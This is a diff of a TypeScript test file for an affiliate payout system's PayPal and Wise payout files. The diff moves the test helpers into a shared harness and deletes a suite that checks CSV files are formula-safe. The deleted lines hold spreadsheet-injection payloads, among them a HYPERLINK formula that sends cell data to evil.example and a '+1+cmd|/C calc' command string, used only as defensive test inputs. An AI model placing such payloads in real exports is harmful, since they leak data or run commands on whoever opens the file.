@@ -4,77 +4,23 @@
  * the PayPal and Wise files are parsed back against the published column sets (docs/payouts.md
  * names the sources), confirming marks them paid, and a failed payout restores the balance.
  */
-import { randomBytes } from 'node:crypto';
 import { parse } from 'csv-parse/sync';
-import { describe, expect, test } from 'vitest';
+import { expect, test } from 'vitest';
 import { runScheduledPayouts } from '../../src/core/payouts/scheduled-payouts.ts';
 import { WISE_COLUMNS } from '../../src/core/payouts/payout-files.ts';
-import { setPayoutMethod, type PayoutDetails } from '../../src/core/payouts/payout-methods.ts';
-import {
-  ADMIN_TOKEN,
-  bearer,
-  clickAndLead,
-  createProgramFixture,
-  useHarness,
-  type Fixture,
-} from '../helpers/harness.ts';
+import { ADMIN_TOKEN, createProgramFixture } from '../helpers/harness.ts';
+import { usePayoutRunHarness } from './payout-run-steps.ts';
 
-const KEY = `k1:${randomBytes(32).toString('base64')}`;
-// The test starts the schedule itself: no sweeper may start it first (runScheduledPayouts is what it runs).
-const h = useHarness({ DATA_ENCRYPTION_KEYS: KEY, SWEEP_INTERVAL_MS: '3600000' });
-let seq = 0;
-
-/** A credited commission of `cents` for the partner (`code`): a sale at 10%, approved. */
-async function credited(f: Fixture, saleCents: number, code = f.partnerCode): Promise<number> {
-  const customer = `c-${++seq}`;
-  await clickAndLead(h, f, customer, code);
-  const r = await h.request('/api/v1/track/sale', {
-    body: { transaction_id: `run-${seq}`, amount_cents: saleCents, customer_key: customer },
-    headers: bearer(f.liveKey),
-  });
-  expect(r.status, JSON.stringify(r.body)).toBe(200);
-  await h.admin('POST', `/programs/${f.programId}/commissions/${r.body.commission_id}/approve`, {});
-  return r.body.commission_id;
-}
-
-async function portal(f: Fixture, partnerId: number) {
-  const invite = await h.admin('POST', `/programs/${f.programId}/partners/${partnerId}/invites`);
-  const token = new URL(invite.invite_url).pathname.split('/').pop();
-  const r = await h.request(`/api/v1/partner/invites/${token}`, { body: { password: 'correct horse battery' } });
-  expect(r.status).toBe(201);
-  const cookie = (r.headers.get('set-cookie') ?? '').split(';')[0]!;
-  return (method: string, body?: unknown) =>
-    h.request('/api/v1/partner/payout-method', {
-      method,
-      body,
-      headers: { cookie, 'x-csrf-token': r.body.csrf_token },
-    });
-}
-
-async function file(f: Fixture, runId: number, format?: string) {
-  const r = await h.request(
-    `/api/v1/admin/programs/${f.programId}/payout-runs/${runId}/file${format ? `?format=${format}` : ''}`,
-    { method: 'GET', headers: { authorization: `Bearer ${ADMIN_TOKEN}` } },
-  );
-  return {
-    status: r.status,
-    type: r.headers.get('content-type'),
-    text: typeof r.body === 'string' ? r.body : JSON.stringify(r.body),
-    body: r.body,
-  };
-}
-
-const statement = async (f: Fixture, partnerId: number) =>
-  (await h.admin('GET', `/programs/${f.programId}/partners/${partnerId}/statement`)).currencies[0];
+const { h, next, credited, portal, file, statement } = usePayoutRunHarness();
 
 test('PayPal: details in the portal, a monthly run over the minimum, the files, confirmation', async () => {
   const f = await createProgramFixture(h, {
     commission_rate_bps: 1000,
     payout_settings: { rail: 'paypal', minimum_cents: { USD: 5_000 }, schedule: 'monthly', day_of_month: 1 },
   });
-  const small = (await h.admin('POST', `/programs/${f.programId}/partners`, { code: `s${++seq}x`, name: 'Small' }))
+  const small = (await h.admin('POST', `/programs/${f.programId}/partners`, { code: `s${next()}x`, name: 'Small' }))
     .partner;
-  const none = (await h.admin('POST', `/programs/${f.programId}/partners`, { code: `n${++seq}x`, name: 'No details' }))
+  const none = (await h.admin('POST', `/programs/${f.programId}/partners`, { code: `n${next()}x`, name: 'No details' }))
     .partner;
 
   const me = await portal(f, f.partnerId);
@@ -233,109 +179,4 @@ test('a run pays only commissions credited before the hold, and partners of the 
   expect((await (await portal(f, f.partnerId))('DELETE')).body).toEqual({ payout_method: null });
   h.clock.advanceDays(8);
   expect((await h.admin('POST', `/programs/${f.programId}/payout-runs`, { currency: 'USD' })).payouts).toEqual([]);
-});
-
-describe('payout files are formula-safe', () => {
-  const HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&B2,"Invoice")';
-  /** A cell a spreadsheet would run: a formula character first, and not a plain number. */
-  const runnable = (cell: string) => /^[=+\-@\t\r]/.test(cell) && !/^-?\d+(\.\d+)?$/.test(cell);
-
-  /** One partner per entry with those details, a credited commission each, and a run of the rail. */
-  async function runWith(rail: 'paypal' | 'wise', entries: Array<{ entered?: PayoutDetails; stored?: PayoutDetails }>) {
-    const f = await createProgramFixture(h, { commission_rate_bps: 1000, payout_settings: { rail } });
-    for (const [i, e] of entries.entries()) {
-      const p = (await h.admin('POST', `/programs/${f.programId}/partners`, { code: `fx${++seq}x${i}`, name: `P${i}` }))
-        .partner;
-      if (e.entered) {
-        const r = await (await portal(f, p.id))('PUT', e.entered);
-        expect(r.status, JSON.stringify(r.body)).toBe(200);
-      } else await setPayoutMethod(h.ctx.deps(), f.programId, p.id, e.stored!); // a row from before the input rule
-      await credited(f, 10_000 * (i + 1), p.code);
-    }
-    const run = await h.admin('POST', `/programs/${f.programId}/payout-runs`, { currency: 'USD' });
-    expect(run.payouts).toHaveLength(entries.length);
-    return { f, run };
-  }
-
-  test.each([
-    ['+', '+tag@example.com'],
-    ['-', '-jane@example.com'],
-    ['=', '=cmd@example.com'],
-    ['@', '@jane@example.com'],
-  ])(
-    'an email starting with %s is refused at entry (400 invalid_request, field email), for PayPal and Wise',
-    async (_c, email) => {
-      const f = await createProgramFixture(h, { payout_settings: { rail: 'paypal' } });
-      const me = await portal(f, f.partnerId);
-      for (const body of [
-        { kind: 'paypal', email },
-        { kind: 'wise', name: 'Jane', email },
-      ]) {
-        const r = await me('PUT', body);
-        expect(r.status).toBe(400);
-        expect(r.body.error).toMatchObject({ code: 'invalid_request', details: { issues: [{ field: 'email' }] } });
-      }
-      expect((await me('GET')).body).toEqual({ payout_method: null });
-    },
-  );
-
-  test('Wise: hostile names are written with a leading apostrophe; the file keeps the template columns', async () => {
-    const names = [HYPERLINK, '+1+cmd|/C calc', '-2+3', '@SUM(A1:A9)', 'Jane, "JJ" Partner'];
-    const { f, run } = await runWith('wise', [
-      ...names.map((name, i) => ({
-        entered: { kind: 'wise' as const, name, email: `w${i}@example.com`, receiver_type: 'PERSON' as const },
-      })),
-      // Rows recorded before the entry rules (a tab or CR first is trimmed when the details are read).
-      { stored: { kind: 'wise', name: '\t=1+1', email: '+old@example.com', receiver_type: 'INSTITUTION' } },
-      { stored: { kind: 'wise', name: '\r=1+1', email: '-old@example.com', receiver_type: 'PERSON' } },
-    ]);
-    const rows = parse((await file(f, run.run.id)).text, { columns: true }) as Array<Record<string, string>>;
-    expect(Object.keys(rows[0]!)).toEqual([...WISE_COLUMNS]);
-    expect(rows.map((r) => r.name).sort()).toEqual(
-      [...names.slice(0, 4).map((n) => `'${n}`), 'Jane, "JJ" Partner', "'=1+1", "'=1+1"].sort(),
-    );
-    expect(rows.map((r) => r.recipientEmail)).toEqual(
-      expect.arrayContaining(["'+old@example.com", "'-old@example.com"]),
-    );
-    for (const r of rows) {
-      expect(Object.values(r).filter(runnable)).toEqual([]);
-      expect(r).toMatchObject({
-        paymentReference: expect.stringMatching(/^Payout \d+$/),
-        receiverType: expect.stringMatching(/^(PERSON|INSTITUTION)$/),
-        amountCurrency: 'target',
-        amount: expect.stringMatching(/^\d+\.\d{2}$/),
-        sourceCurrency: 'USD',
-        targetCurrency: 'USD',
-      });
-    }
-  });
-
-  test('PayPal: an email from before the entry rule is written defused; the upload keeps its six columns; the API body is untouched', async () => {
-    const { f, run } = await runWith('paypal', [
-      { entered: { kind: 'paypal', email: 'jane@example.com' } },
-      { stored: { kind: 'paypal', email: '+1+cmd@example.com' } },
-      { stored: { kind: 'paypal', email: '-2@example.com' } },
-    ]);
-    const rows = parse((await file(f, run.run.id)).text) as string[][];
-    expect(rows.map((r) => r[0]).sort()).toEqual(["'+1+cmd@example.com", "'-2@example.com", 'jane@example.com']);
-    for (const r of rows) {
-      expect(r.filter(runnable)).toEqual([]);
-      expect(r).toEqual([
-        expect.any(String),
-        expect.stringMatching(/^\d+\.\d{2}$/),
-        'USD',
-        expect.stringMatching(/^P\d+$/),
-        `Partner payout ${run.run.id}`,
-        'PAYPAL',
-      ]);
-    }
-    // JSON is never run as a formula: the API body carries the address as stored.
-    const api = await file(f, run.run.id, 'paypal_json');
-    const body = typeof api.body === 'string' ? JSON.parse(api.body) : api.body;
-    expect(body.items.map((i: { receiver: string }) => i.receiver).sort()).toEqual([
-      '+1+cmd@example.com',
-      '-2@example.com',
-      'jane@example.com',
-    ]);
-  });
 });
